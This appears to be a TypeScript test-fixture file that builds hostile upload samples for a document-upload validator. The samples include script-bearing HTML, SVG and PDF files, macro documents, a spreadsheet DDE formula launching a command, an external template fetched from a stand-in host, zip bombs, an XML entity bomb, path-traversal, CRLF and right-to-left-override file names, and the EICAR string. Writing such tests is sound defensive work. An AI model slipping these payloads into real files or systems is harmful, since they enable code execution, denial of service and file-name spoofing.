/** Files nobody should hand in. */
import {
  exif,
  jpeg,
  office,
  packedObjects,
  pdf,
  png,
  zip,
  type Bytes,
} from '../../support/files.js';
import { ownTest, type BadFile, type BadInput } from './input.js';

const file = (n: number, what: string, name: string, content: () => Bytes | string): BadFile => ({
  n,
  what,
  in: 'file',
  name,
  content: () => {
    const made = content();
    return typeof made === 'string' ? new Uint8Array(Buffer.from(made)) : made;
  },
});
const joined = (...parts: readonly Uint8Array[]): Bytes => new Uint8Array(Buffer.concat(parts));
const relation =
  '<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="https://bad.example/t" TargetMode="External"/></Relationships>';
const BOMB =
  '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>';
const EICAR = [
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}',
  '$EICAR-STANDARD-',
  'ANTIVIRUS-TEST-FILE!$H+H*',
].join('');

/** An archive that says it holds as many files as its list can tell. */
function crowded(): Bytes {
  const content = Buffer.from(office('docx'));
  content.writeUInt16LE(0xffff, content.length - 14);
  content.writeUInt16LE(0xffff, content.length - 12);
  return new Uint8Array(content);
}

export const FILES: readonly BadInput[] = [
  file(75, 'a page called PDF', 'a.pdf', () => '<!doctype html><script>alert(1)</script>'),
  file(76, 'a PDF that is an archive too', 'a.pdf', () => joined(pdf(), zip([{ name: 'a' }]))),
  file(
    77,
    'a drawing with a script',
    'a.png',
    () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  ),
  file(77, 'a PDF with a script', 'a.pdf', () => pdf(packedObjects('<</S/JavaScript/JS(x)>>'))),
  file(78, 'a document with macros', 'a.docx', () =>
    office('docx', { name: 'word/vbaProject.bin' }),
  ),
  file(78, 'a document that fetches its template', 'a.docx', () =>
    office('docx', { name: 'word/_rels/settings.xml.rels', data: relation }),
  ),
  file(78, 'a table that calls a program', 'a.xlsx', () =>
    office('xlsx', { name: 'xl/worksheets/sheet1.xml', data: "<f>cmd|'/C calc'!A0</f>" }),
  ),
  file(79, 'an archive of 4 GB', 'a.docx', () => office('docx', { name: 'a', size: 0xffffffff })),
  file(79, 'an archive of countless files', 'a.docx', crowded),
  file(80, 'an archive that leaves its folder', 'a.docx', () =>
    office('docx', { name: '../../x' }),
  ),
  file(80, 'an archive with a link', 'a.xlsx', () =>
    office('xlsx', { name: 'l', data: '/etc', mode: 0xa1ff }),
  ),
  file(81, 'a table with entities', 'a.xlsx', () =>
    office('xlsx', { name: 'xl/workbook.xml', data: BOMB }),
  ),
  file(82, 'a picture of 50,000 by 50,000', 'a.png', () => png({ width: 50_000, height: 50_000 })),
  file(82, 'a photograph of 60,000 by 60,000', 'a.jpg', () =>
    jpeg({ width: 60_000, height: 60_000 }),
  ),
  {
    ...file(83, 'a photograph with the place of a home', 'a.jpg', () => jpeg({ taken: exif(1) })),
    mayBeKept: true,
  },
  ownTest(
    83,
    'the same when it is read',
    'documents/contents.spec.ts',
    'as %s is read without place, time and owner, while the original is kept',
  ),
  { ...file(84, 'a device', 'CON.pdf', () => pdf()), mayBeKept: true },
  file(84, 'a folder above', '..\\..\\a.pdf', () => pdf()),
  file(84, '300 characters', `${'a'.repeat(296)}.pdf`, () => pdf()),
  file(84, 'a header in a name', 'a.pdf\r\nX: 1', () => pdf()),
  file(84, 'writing turned around in a name', 'a\u202efdp.exe', () => pdf()),
  ownTest(84, 'names as they are kept', 'documents/contents.spec.ts', '%p is kept as %p'),
  file(85, 'nothing', 'a.pdf', () => ''),
  file(86, 'the mark of a scanner', 'a.pdf', () => EICAR),
  file(86, 'the mark of a scanner in a PDF', 'a.pdf', () => pdf({ stream: Buffer.from(EICAR) })),
  ownTest(
    87,
    'one file in two dossiers',
    'api/bad-inputs/scenes.spec.ts',
    'one file in two dossiers',
  ),
  file(88, 'an encrypted PDF', 'a.pdf', () => pdf({ more: '/Encrypt 7 0 R' })),
];
